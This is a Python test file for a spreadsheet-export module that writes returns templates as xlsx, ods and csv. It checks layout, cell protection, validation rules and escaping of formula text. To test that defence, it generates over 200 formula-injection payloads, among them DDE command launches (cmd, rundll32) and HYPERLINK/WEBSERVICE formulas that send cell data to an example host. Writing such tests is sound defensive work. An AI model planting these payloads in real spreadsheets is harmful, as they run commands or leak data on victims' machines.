"""The file that is sent out: what it holds, what is locked, and that no text in it is ever taken for a formula."""

import csv
import io
import re
import zipfile
from itertools import product

import openpyxl
import pytest

from goldenthread.reading.workbook import read_workbook
from goldenthread.returns.workbooks import FORMATS, Column, Template, read, write
from goldenthread.returns.workbooks.layout import MARKERS
from goldenthread.returns.workbooks.wording import file_name
from goldenthread.returns.workbooks.writing import harmless
from goldenthread.vocabulary import Refused
from tests.unit.returns.workbooks.filling import HEAD, address, line, percentage, rate, template

ASKED = template()


@pytest.fixture(scope="module")
def book():
    return openpyxl.load_workbook(io.BytesIO(write(ASKED)))


@pytest.mark.parametrize("format", FORMATS)
def test_what_is_written_reads_back_as_asked_and_empty(format) -> None:
    taken = read(write(ASKED, format), f"return.{format}", ASKED)
    assert [entry.key for entry in taken.entries] == [each.key for each in ASKED.lines]
    assert all(entry.known and entry.blank for entry in taken.entries)
    assert (taken.missing, taken.moved, taken.remarks) == ((), False, ())


@pytest.mark.parametrize("format", FORMATS)
def test_the_same_template_gives_the_same_bytes(format) -> None:
    assert write(ASKED, format) == write(Template.from_plain(ASKED.plain()), format)


@pytest.mark.parametrize("format", ["xlsx", "ods"])
def test_every_cell_of_the_template_is_there_in_both_formats(format) -> None:
    sheets = {sheet.name: sheet for sheet in read_workbook(write(ASKED, format), "a").sheets}
    assert list(sheets) == ["Instructions", "Figures", "Indicators", "Template"]
    assert [name for name, sheet in sheets.items() if sheet.hidden] == ["Template"]
    rows = sheets["Figures"].rows()
    assert [rows[HEAD][at].text for at in sorted(rows[HEAD])] == [column.value for column in Column]
    for number, each in enumerate(ASKED.lines, HEAD + 1):
        said = {column: rows[number][at].text for at, column in enumerate(Column, 1) if at in rows[number]}
        assert {column: said[column] for column in each.locked()} == each.locked() | {
            Column.LAST_VALUE: said[Column.LAST_VALUE]
        }


def test_another_format_is_refused() -> None:
    with pytest.raises(Refused):
        write(ASKED, "pdf")


def test_only_the_cells_that_are_asked_for_are_open(book) -> None:
    sheet = book["Figures"]
    assert sheet.protection.sheet
    open_cells = {cell.coordinate for row in sheet.iter_rows() for cell in row if not cell.protection.locked}
    expected = {
        address(column, number)
        for number, each in enumerate(ASKED.lines, 1)
        for column in Column
        if column.asked and (each.asks_parts or column not in (Column.NUMERATOR, Column.DENOMINATOR))
    }
    assert open_cells == expected


def test_it_is_fit_to_print_and_to_be_read_aloud(book) -> None:
    sheet = book["Figures"]
    assert sheet["A1"].value == ASKED.title
    assert sheet.freeze_panes == f"C{HEAD + 1}"
    assert sheet.print_title_rows == f"${HEAD}:${HEAD}"
    assert not sheet.merged_cells.ranges
    assert [table.ref for table in sheet.tables.values()] == [f"A{HEAD}:Q{HEAD + len(ASKED.lines)}"]
    for each in book.worksheets[:3]:
        assert each.oddHeader.center.text == each.oddFooter.center.text == "OFFICIAL"
        filled = list(each.iter_rows(values_only=True))
        assert all(any(value is not None for value in row) for row in filled)  # no blank rows
    assert book["Template"].sheet_state == "hidden"
    assert book.properties.keywords == "OFFICIAL"


def test_each_open_cell_says_what_it_takes(book) -> None:
    rules = book["Figures"].data_validations.dataValidation
    count = next(rule for rule in rules if address(Column.VALUE, 1) in rule.sqref)
    assert (count.type, count.operator, count.formula1) == ("whole", "greaterThanOrEqual", "0")
    share = next(rule for rule in rules if address(Column.VALUE, 2) in rule.sqref)
    assert (share.type, share.formula1, share.formula2) == ("decimal", "0", "100")
    marker = next(rule for rule in rules if address(Column.MARKER, 1) in rule.sqref)
    assert marker.formula1 == '"' + ",".join(each.shown for each in MARKERS) + '"'
    assert all(rule.prompt and rule.error and rule.error.endswith(".") for rule in rules)


def test_rules_on_scattered_rows_reach_every_row() -> None:
    many = template(*(line(n) if n % 2 else percentage(n) for n in range(1, 451)))
    sheet = openpyxl.load_workbook(io.BytesIO(write(many)))["Figures"]
    rules = sheet.data_validations.dataValidation
    for number in (1, 2, 201, 202, 449, 450):
        assert sum(address(Column.VALUE, number) in rule.sqref for rule in rules) == 1


def test_a_file_name_is_plain_short_and_marked() -> None:
    name = file_name(template(title="Return: Q1 2025/26 – “all” partners, every one of them, for the year"), "xlsx")
    assert re.fullmatch(r"[A-Za-z0-9_-]{1,50}\.xlsx", name)
    assert name.endswith("_OFFICIAL.xlsx")


# Formulas that go out

LEADS = [
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "  +",
    "\u00a0=",
    "\u200b=",
    "\ufeff@",
    "\uff1d",
    "\uff0b",
    "\uff0d",
    "\uff20",
]
BODIES = [
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://example.org/?leak="&A1,"click")',
    'WEBSERVICE("https://example.org/"&A1)',
    "SUM(1,2)*cmd|'/c x'!A1",
    "2+5+cmd|' /C notepad'!'A1'",
    'IMPORTXML("https://example.org","//a")',
    'DDE("cmd","/C calc","x")',
    "rundll32|'URL.dll,OpenURL x'!A",
    "'=1",
    '"=1"',
    "A1",
    "1",
]
PAYLOADS = [lead + body for lead, body in product(LEADS, BODIES)]


def test_there_are_two_hundred_payloads() -> None:
    assert len(set(PAYLOADS)) >= 200


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_csv_puts_a_mark_before_what_looks_like_a_formula(payload) -> None:
    assert harmless(payload) == f"'{payload}"


@pytest.mark.parametrize("text", ["Children in need", "12.5", "E06000059", "10-17", "a = b", ""])
def test_other_texts_stay_as_they_are(text) -> None:
    assert harmless(text) == text


def test_no_cell_of_any_format_is_a_formula() -> None:
    hostile = [" ".join(payload.split()) for payload in PAYLOADS if "|" not in payload]
    lines = [
        line(n, title=text, definition=text, area_name=text, unit=text, breakdown=text)
        for n, text in enumerate(hostile, 1)
    ]
    asked = template(*lines, title="=1+1", collection="@SUM(1)", contact="+1", agency_name="-1")
    for format in FORMATS:
        data = write(asked, format)
        for sheet in read_workbook(data, f"a.{format}").sheets:
            assert [cell.address for cell in sheet.cells if cell.formula] == []
        if format != "csv":
            with zipfile.ZipFile(io.BytesIO(data)) as archive:
                whole = b"".join(archive.read(name) for name in archive.namelist())
            assert b"<f>" not in whole
            assert b"table:formula" not in whole
        else:
            for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")):
                assert not [cell for cell in row if re.match(r"\s*[=+@\uff1d]|-\D", cell)]
        taken = read(data, f"a.{format}", asked)
        assert [entry.key for entry in taken.entries] == [each.key for each in asked.lines]


def test_a_template_survives_the_way_through_json() -> None:
    asked = template(line(1), percentage(2), rate(3), due="")
    assert Template.from_plain(asked.plain()) == asked


@pytest.mark.parametrize(
    "change", [lambda s: s.pop("lines"), lambda s: s["lines"][0].update(x=1), lambda s: s.update(lines=5)]
)
def test_what_is_no_template_is_refused(change) -> None:
    said = ASKED.plain()
    change(said)
    with pytest.raises(Refused):
        Template.from_plain(said)


def test_two_lines_with_one_key_and_rules_about_nothing_are_refused() -> None:
    with pytest.raises(Refused):
        template(line(1), line(1))
    with pytest.raises(Refused):
        line(1, breakdown="a|b")
